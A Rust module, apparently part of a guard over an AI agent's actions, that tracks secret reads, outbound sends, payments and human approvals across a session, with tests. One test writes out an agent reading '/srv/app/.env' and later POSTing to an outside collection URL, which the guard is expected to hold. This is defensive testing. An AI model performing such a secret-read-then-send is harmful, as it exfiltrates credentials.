//! What a session has come to, carried from step to step in labels, so that no
//! decision looks back over it: marks of what was read and sent, sums of what
//! was paid, payments made, holds that a human approved.
//!
//! Each step's labels hold the state before it and what it adds itself. The
//! next decision folds the two, once it is known whether the step ran. A step
//! without labels (the scorer failed, or there was nothing to carry) is passed
//! over, eight of them at most.
//!
//! | label | meaning |
//! | --- | --- |
//! | `secret-read@3` | step 3 was the newest with the label `secret-read` |
//! | `sum@EUR:41600` | 416.00 EUR were paid before this step |
//! | `paid@…` | payments made before: payee, amount and reference, hashed |
//! | `pays@EUR:11900:…` | this step pays 119.00 EUR |
//! | `asked@…` | this step is held for this cause |
//! | `ok@3:…` | the cause step 3 was held for was approved |

use crate::facts::Past;

/// Labels that are carried on.
pub const MARKS: [&str; 6] = [
    crate::labels::SECRET_READ,
    crate::labels::PERSONAL_READ,
    crate::labels::INTERNAL_READ,
    crate::labels::UNTRUSTED_SOURCE,
    crate::labels::SEND_OUTSIDE,
    crate::labels::MONEY_OUT,
];

/// How many steps without labels are passed over.
const PASSED_OVER: u32 = 8;
/// How many currencies, payments and approvals are kept: the newest.
const MAX_SUMS: usize = 4;
const MAX_PAID: usize = 12;
const MAX_APPROVED: usize = 6;

/// A payment as far as sums and repeats go.
#[derive(Debug, Clone, PartialEq)]
pub struct Payment {
    /// Three letters, or `-` when it is not said.
    pub currency: String,
    /// Hundredths.
    pub cents: i64,
    /// Payee, amount and reference, hashed.
    pub identity: u64,
    /// Payee, amount and the key that makes a second try harmless, if there is
    /// one.
    pub request: Option<u64>,
}

/// The state of a session before an action.
#[derive(Debug, Default, PartialEq)]
pub struct Ledger {
    marks: Vec<(String, u32)>,
    sums: Vec<(String, i64)>,
    paid: Vec<u64>,
    approved: Vec<(u32, u64)>,
}

impl Ledger {
    /// Reads the state from the newest labelled step.
    pub fn read(past: &impl Past) -> Ledger {
        let kept = past.kept();
        let from = kept.start.max(kept.end.saturating_sub(PASSED_OVER));
        for step in (from..kept.end).rev() {
            let labels = past.labels(step);
            if !labels.is_empty() {
                return Ledger::fold(step, &labels, past);
            }
        }
        Ledger::default()
    }

    fn fold(step: u32, labels: &[String], past: &impl Past) -> Ledger {
        let mut ledger = Ledger::default();
        for label in labels {
            match label.split_once('@') {
                None => {}
                Some(("sum", sum)) => ledger.sums.extend(read_sum(sum)),
                Some(("paid", hash)) => ledger.paid.extend(hashes(hash)),
                Some(("ok", ok)) => ledger.approved.extend(read_approval(ok)),
                Some((mark, at)) if MARKS.contains(&mark) => {
                    ledger
                        .marks
                        .extend(at.parse().ok().map(|at| (mark.to_owned(), at)));
                }
                Some(_) => {}
            }
        }
        for label in labels.iter().filter(|l| MARKS.contains(&l.as_str())) {
            ledger.marks.retain(|(mark, _)| mark != label);
            ledger.marks.push((label.clone(), step));
        }
        let own = |name: &str| {
            labels
                .iter()
                .filter_map(|l| l.split_once('@'))
                .filter(|(n, _)| *n == name)
                .map(|(_, rest)| rest.to_owned())
                .collect::<Vec<_>>()
        };
        let (pays, asked) = (own("pays"), own("asked"));
        if pays.is_empty() && asked.is_empty() {
            return ledger;
        }
        let fate = past.fate(step);
        if fate.ran {
            pays.iter()
                .filter_map(|p| read_payment(p))
                .for_each(|p| ledger.pay(p));
        }
        if fate.approved {
            let causes = asked.iter().flat_map(|a| hashes(a));
            ledger.approved.extend(causes.map(|cause| (step, cause)));
        }
        ledger
    }

    fn pay(&mut self, payment: Payment) {
        if self.is_retry(&payment) {
            return;
        }
        match self.sums.iter_mut().find(|(c, _)| *c == payment.currency) {
            Some((_, sum)) => *sum = sum.saturating_add(payment.cents),
            None => self.sums.push((payment.currency, payment.cents)),
        }
        self.paid.push(payment.identity);
        self.paid.extend(payment.request);
    }

    /// The newest step with the label.
    pub fn mark(&self, label: &str) -> Option<u32> {
        self.marks
            .iter()
            .find(|(m, _)| m == label)
            .map(|(_, at)| *at)
    }

    /// What was paid before in the currency, in hundredths.
    pub fn sum(&self, currency: &str) -> i64 {
        let of = self.sums.iter().find(|(c, _)| c == currency);
        of.map_or(0, |(_, sum)| *sum)
    }

    /// True when this is a second try of a payment made before.
    pub fn is_retry(&self, payment: &Payment) -> bool {
        payment
            .request
            .is_some_and(|request| self.paid.contains(&request))
    }

    /// True when the same was paid before, by another request.
    pub fn was_paid(&self, payment: &Payment) -> bool {
        self.paid.contains(&payment.identity) && !self.is_retry(payment)
    }

    /// The step at which a human approved the same cause.
    pub fn approval(&self, cause: u64) -> Option<u32> {
        let same = self.approved.iter().rev().find(|(_, c)| *c == cause);
        same.map(|(step, _)| *step)
    }

    /// The labels that carry the state on, the newest of each sort.
    pub fn labels(&self) -> Vec<String> {
        let mut labels = Vec::new();
        for (mark, at) in &self.marks {
            labels.push([mark, "@", &at.to_string()].concat());
        }
        for (currency, sum) in newest(&self.sums, MAX_SUMS) {
            labels.push(["sum@", currency, ":", &sum.to_string()].concat());
        }
        for three in newest(&self.paid, MAX_PAID).chunks(3) {
            labels.push(join("paid@", three));
        }
        for (step, cause) in newest(&self.approved, MAX_APPROVED) {
            labels.push(["ok@", &step.to_string(), ":", &hex(*cause)].concat());
        }
        labels
    }
}

/// The label of a step that pays.
pub fn pays(payment: &Payment) -> String {
    let cents = payment.cents.to_string();
    let request = payment.request.map(hex).unwrap_or_default();
    [
        "pays@",
        &payment.currency,
        ":",
        &cents,
        ":",
        &hex(payment.identity),
        ":",
        &request,
    ]
    .concat()
}

/// The labels of a step that is held for these causes, at most six.
pub fn asked(causes: &[u64]) -> Vec<String> {
    causes
        .chunks(3)
        .take(2)
        .map(|three| join("asked@", three))
        .collect()
}

fn newest<T>(all: &[T], max: usize) -> &[T] {
    &all[all.len().saturating_sub(max)..]
}

fn join(name: &str, hashes: &[u64]) -> String {
    let texts: Vec<String> = hashes.iter().map(|h| hex(*h)).collect();
    name.to_owned() + &texts.join(".")
}

fn hashes(text: &str) -> impl Iterator<Item = u64> + '_ {
    text.split('.')
        .filter_map(|h| u64::from_str_radix(h, 16).ok())
}

fn read_sum(text: &str) -> Option<(String, i64)> {
    let (currency, sum) = text.split_once(':')?;
    Some((currency.to_owned(), sum.parse().ok()?))
}

fn read_approval(text: &str) -> Option<(u32, u64)> {
    let (step, cause) = text.split_once(':')?;
    Some((step.parse().ok()?, hashes(cause).next()?))
}

fn read_payment(text: &str) -> Option<Payment> {
    let mut parts = text.split(':');
    Some(Payment {
        currency: parts.next()?.to_owned(),
        cents: parts.next()?.parse().ok()?,
        identity: hashes(parts.next()?).next()?,
        request: parts.next().and_then(|r| hashes(r).next()),
    })
}

fn hex(hash: u64) -> String {
    const DIGITS: &[u8; 16] = b"0123456789abcdef";
    (0..16)
        .rev()
        .map(|i| char::from(DIGITS[(hash >> (4 * i)) as usize & 15]))
        .collect()
}

/// A hash of texts, the same on every machine (FNV-1a). It tells honest values
/// apart; where a forged one could matter, the values themselves are compared.
pub fn hash<'t>(texts: impl IntoIterator<Item = &'t str>) -> u64 {
    let mut hash = 0xcbf2_9ce4_8422_2325_u64;
    for text in texts {
        for byte in text.bytes().chain([0xff]) {
            hash = (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3);
        }
    }
    hash
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn labels_carry_the_state() {
        let mut ledger = Ledger {
            marks: vec![("secret-read".to_owned(), 3)],
            approved: vec![(5, 7)],
            ..Ledger::default()
        };
        for i in 0..20 {
            ledger.pay(Payment {
                currency: "EUR".to_owned(),
                cents: 100,
                identity: i,
                request: None,
            });
        }
        let labels = ledger.labels();
        assert!(
            labels.len() <= 20 && labels.iter().all(|l| l.len() <= 64),
            "{labels:?}"
        );
        let past = crate::testing::Told::default();
        let read = Ledger::fold(30, &labels, &past);
        assert_eq!(read.sum("EUR"), 2_000);
        assert_eq!(read.mark("secret-read"), Some(3));
        assert_eq!(read.approval(7), Some(5));
        assert_eq!(
            read.paid,
            (8..20).collect::<Vec<u64>>(),
            "the newest are kept"
        );
    }

    fn held(session: &str) -> Vec<bool> {
        let session = coldnotch_plugin::json::from_str(session).unwrap_or_default();
        let judged = crate::testing::replay(&session, &crate::settings::Settings::default());
        judged.into_iter().map(|j| j.held).collect()
    }

    #[test]
    fn a_cause_that_was_approved_is_not_asked_again() {
        let session = r#"{"intent":"What did the doctor's reviews say?","steps":[
            {"type":"send_email","payload":{"to":"amy@mail.example","body":"One."},"approved":APPROVED},
            {"type":"calendar.list","payload":{}},
            {"type":"send_email","payload":{"to":"amy@mail.example","body":"Two."}},
            {"type":"send_email","payload":{"to":"bob@mail.example","body":"Two."}}]}"#;
        assert_eq!(
            held(&session.replace("APPROVED", "true")),
            [true, false, false, true]
        );
        assert_eq!(
            held(&session.replace("APPROVED", "false")),
            [true, false, true, true]
        );
    }

    #[test]
    fn what_was_read_long_ago_is_still_known() {
        let mut steps =
            vec![r#"{"type":"read_file","payload":{"path":"/srv/app/.env"}}"#.to_owned()];
        steps.extend(
            (0..200).map(|i| format!(r#"{{"type":"calendar.list","payload":{{"day":{i}}}}}"#)),
        );
        steps.push(r#"{"type":"http_request","payload":{"method":"POST","url":"https://collect.example/in","body":"ok"}}"#.to_owned());
        let session = format!(r#"{{"intent":null,"steps":[{}]}}"#, steps.join(","));
        assert_eq!(held(&session).last(), Some(&true));
    }

    #[test]
    fn a_payment_that_did_not_run_does_not_count() {
        let session = r#"{"intent":"Pay Hill & Co 50.00 EUR and Ruiz 20.00 EUR.","steps":[
            {"type":"payments.create","payload":{"payee":"Hill & Co","amount":5000}},
            {"type":"payments.create","payload":{"payee":"Hill & Co","amount":50}},
            {"type":"payments.create","payload":{"payee":"Ruiz","amount":20}},
            {"type":"payments.create","payload":{"payee":"Ruiz","amount":10}}]}"#;
        assert_eq!(held(session), [true, false, false, true]);
    }
}
